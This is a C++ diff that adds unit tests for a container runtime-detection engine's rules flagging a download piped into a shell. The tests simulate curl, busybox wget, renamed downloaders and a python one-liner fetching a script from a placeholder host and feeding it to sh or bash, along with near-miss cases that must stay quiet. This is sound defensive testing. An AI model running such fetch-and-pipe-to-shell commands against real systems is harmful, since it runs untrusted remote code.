@@ -17,6 +17,7 @@
 #include <string>
 #include <vector>
 
+#include "enrich/pipe_join.h"
 #include "rules/rule_set.h"
 #include "test_context.h"
 #include "test_util.h"
@@ -505,6 +506,197 @@ TEST_CASE("default rules: shells on unix sockets, pipes, terminals and files, an
     }
     // a failed exec has no stdio
     CHECK(fired(exec_scene("/bin/sh", {"sh"}, -2)).empty());
+}
+
+// ---- download piped to a shell -----------------------------------------------
+
+namespace {
+
+using crowsnest::EventContext;
+using crowsnest::PipeJoin;
+
+// The processes of one pipeline (`writer | reader`), each event fed through
+// one pipe join as the engine feeds it, then matched by the shipped rules.
+struct Pipeline {
+    PipeJoin join;
+    const StdioFd pipe = kind(StdioKind::Pipe, 77), tty = kind(StdioKind::CharDevice, 3);
+    bool on_host = false;
+    std::vector<std::string> outputs;  // of the last step's verdicts
+
+    Names step(Scene s, uint32_t pid) {
+        s.event.pid = s.event.tid = s.process.pid = pid;
+        if (on_host) s.on_host();
+        EventContext ctx = s.ctx();
+        join.join(ctx);
+        std::vector<Detection> ds;
+        default_rules().match(ctx, ds);
+        Names names;
+        outputs.clear();
+        for (auto &d : ds) {
+            default_rules().render_output(d);
+            names.push_back(d.rule->name);
+            outputs.push_back(d.output);
+        }
+        std::sort(names.begin(), names.end());
+        return names;
+    }
+    Names writer(uint32_t pid, const std::string &exe, std::vector<std::string> argv) {
+        return step(with_stdio(exec_scene(exe, std::move(argv)), tty, pipe, tty), pid);
+    }
+    Names reader(uint32_t pid, const std::string &exe, std::vector<std::string> argv) {
+        return step(with_stdio(exec_scene(exe, std::move(argv)), pipe, tty, tty), pid);
+    }
+    // the writer's connect (as its process table entry knows it), refused or not
+    Names connect(uint32_t pid, const std::string &exe, std::vector<std::string> argv, int64_t ret = 0) {
+        Scene s = connect_inet_scene("127.0.0.1", 8080, ret);
+        s.by(exe, std::move(argv));
+        return step(s, pid);
+    }
+};
+
+const Names kShellLast{"download_piped_to_shell"}, kWriterLast{"download_piped_to_running_shell"};
+
+}  // namespace
+
+TEST_CASE("default rules: a download piped to a shell, once, whichever side execs or connects last",
+          "[default_rules][drift][pipe]") {
+    const std::vector<std::string> curl{"curl", "-fsSL", "http://203.0.113.9/x.sh"};
+    {   // curl first: the shell's exec fires, on curl's name alone
+        Pipeline p;
+        CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
+        CHECK(p.reader(11, "/bin/sh", {"sh"}) == kShellLast);
+        REQUIRE(p.outputs.size() == 1);
+        CHECK(p.outputs[0].find("/bin/sh (sh) reads its program from /usr/bin/curl (-fsSL http://203.0.113.9/x.sh)") !=
+              std::string::npos);
+        CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
+    }
+    {   // the shell first: curl's exec fires, its connect does not again
+        Pipeline p;
+        CHECK(p.reader(11, "/bin/bash", {"bash", "-s", "--", "--prefix=/opt"}).empty());
+        CHECK(p.writer(10, "/usr/bin/curl", curl) == kWriterLast);
+        REQUIRE(p.outputs.size() == 1);
+        CHECK(p.outputs[0].find("writes to /bin/bash (-s -- --prefix=/opt)") != std::string::npos);
+        CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
+    }
+    const std::vector<std::string> py{"python3", "-c", "import urllib.request as u;print(u.urlopen('http://x').read())"};
+    {   // a python one-liner after the shell: its first connect fires, later ones do not
+        Pipeline p;
+        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
+        CHECK(p.writer(10, "/usr/bin/python3", py).empty());
+        CHECK(p.connect(10, "/usr/bin/python3", py) == kWriterLast);
+        CHECK(p.connect(10, "/usr/bin/python3", py).empty());
+    }
+    {   // the one-liner first, connecting after the shell's exec, refused (an attempt counts)
+        Pipeline p;
+        CHECK(p.writer(10, "/usr/bin/python3", py).empty());
+        CHECK(p.reader(11, "/usr/bin/perl", {"perl"}).empty());
+        CHECK(p.connect(10, "/usr/bin/python3", py, -111) == kWriterLast);
+    }
+    {   // the one-liner connected before the shell's exec
+        Pipeline p;
+        CHECK(p.writer(10, "/usr/bin/python3", py).empty());
+        CHECK(p.connect(10, "/usr/bin/python3", py, -115).empty());
+        CHECK(p.reader(11, "/bin/sh", {"sh", "-"}) == kShellLast);
+    }
+}
+
+TEST_CASE("default rules: busybox and renamed downloaders piped to a shell", "[default_rules][drift][pipe]") {
+    const std::vector<std::string> bb_wget{"busybox", "wget", "-O", "-", "http://127.0.0.1:8080/x.sh"};
+    {   // `busybox wget` goes by busybox alone: it counts once it has connected
+        Pipeline p;
+        CHECK(p.writer(10, "/bin/busybox", bb_wget).empty());
+        CHECK(p.connect(10, "/bin/busybox", bb_wget).empty());
+        CHECK(p.reader(11, "/bin/sh", {"sh"}) == kShellLast);
+    }
+    {   // the shell first: busybox's first connect
+        Pipeline p;
+        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
+        CHECK(p.writer(10, "/bin/busybox", bb_wget).empty());
+        CHECK(p.connect(10, "/bin/busybox", bb_wget) == kWriterLast);
+    }
+    {   // a copy of busybox started with argv[0] wget: its argv[0] names it before any connect
+        Pipeline p;
+        CHECK(p.writer(10, "/opt/tools/getter", {"wget", "-qO-", "http://127.0.0.1:8080/x.sh"}).empty());
+        CHECK(p.reader(11, "/bin/busybox", {"busybox", "sh"}) == kShellLast);
+    }
+    {   // busybox's shell through /proc/self/exe first, a `sleep` before the renamed copy in the subshell
+        Pipeline p;
+        Scene sh = with_stdio(exec_scene("/bin/busybox", {"sh", "-s", "renamed"}), p.pipe, p.tty, p.tty);
+        sh.event.comm = sh.process.comm = "exe";
+        CHECK(p.step(sh, 11).empty());
+        CHECK(p.writer(12, "/bin/sleep", {"sleep", "1"}).empty());
+        CHECK(p.writer(10, "/opt/tools/getter", {"wget", "-q", "-O", "-", "http://127.0.0.1:8080/x.sh"}) == kWriterLast);
+    }
+    {   // a renamed program that connects, read by busybox's shell through /proc/self/exe
+        Pipeline p;
+        CHECK(p.writer(10, "/opt/tools/getter", {"getter", "http://127.0.0.1:8080/x.sh"}).empty());
+        CHECK(p.connect(10, "/opt/tools/getter", {"getter", "http://127.0.0.1:8080/x.sh"}).empty());
+        Scene sh = with_stdio(exec_scene("/bin/busybox", {"sh"}), p.pipe, p.tty, p.tty);
+        sh.event.comm = sh.process.comm = "exe";
+        CHECK(p.step(sh, 11) == kShellLast);
+    }
+}
+
+TEST_CASE("default rules: pipes into shells that bring nothing from the network, and downloads into "
+          "non-shells, stay quiet",
+          "[default_rules][drift][pipe][near_miss]") {
+    const std::vector<std::string> curl{"curl", "-s", "http://203.0.113.9/data.json"};
+    {   // cat file | sh: a writer that never connected
+        Pipeline p;
+        CHECK(p.writer(10, "/bin/cat", {"cat", "/etc/motd.sh"}).empty());
+        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
+    }
+    {   // echo cmd | sh: the shell's builtin writes, no program execs
+        Pipeline p;
+        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
+    }
+    {   // generate-config | sh, the shell first: the writer runs but never connects
+        Pipeline p;
+        CHECK(p.reader(11, "/bin/bash", {"bash"}).empty());
+        CHECK(p.writer(10, "/usr/local/bin/generate-config", {"generate-config"}).empty());
+        Scene unix_connect = connect_unix_scene("/run/nscd/socket");
+        unix_connect.by("/usr/local/bin/generate-config", {"generate-config"});
+        CHECK(p.step(unix_connect, 10).empty());
+    }
+    for (const std::vector<std::string> &reader :
+         {std::vector<std::string>{"tar", "xz"}, {"jq", ".name"}, {"grep", "version"},
+          {"python3", "-m", "json.tool"}, {"python3", "-c", "import json,sys; print(json.load(sys.stdin))"},
+          {"sh", "-c", "cat > /tmp/data.json"}, {"bash", "/opt/consume.sh"}, {"busybox", "tar", "x"}}) {
+        INFO(reader[0] << " " << reader[1]);
+        const std::string exe = "/usr/bin/" + reader[0];
+        {   // curl first
+            Pipeline p;
+            CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
+            CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
+            CHECK(p.reader(11, exe, reader).empty());
+        }
+        {   // the reader first
+            Pipeline p;
+            CHECK(p.reader(11, exe, reader).empty());
+            CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
+            CHECK(p.connect(10, "/usr/bin/curl", curl).empty());
+        }
+    }
+    {   // busybox's `sh -c 'cat >f'` runs cat through /proc/self/exe: busybox by its file, cat by argv[0]
+        Pipeline p;
+        CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
+        Scene cat = with_stdio(exec_scene("/bin/busybox", {"cat"}), p.pipe, p.tty, p.tty);
+        cat.event.comm = cat.process.comm = "exe";
+        CHECK(p.step(cat, 11).empty());
+        CHECK(p.writer(12, "/usr/bin/curl", curl).empty());
+    }
+    {   // sh script.sh | tee log: the shell writes, tee reads
+        Pipeline p;
+        CHECK(p.writer(10, "/bin/sh", {"sh", "script.sh"}).empty());
+        CHECK(p.connect(10, "/bin/sh", {"sh", "script.sh"}).empty());
+        CHECK(p.reader(11, "/usr/bin/tee", {"tee", "log"}).empty());
+    }
+    {   // on the host (an install script on a node is not a container's drift)
+        Pipeline p;
+        p.on_host = true;
+        CHECK(p.writer(10, "/usr/bin/curl", curl).empty());
+        CHECK(p.reader(11, "/bin/sh", {"sh"}).empty());
+    }
 }
 
 // ---- host files and escapes -------------------------------------------------
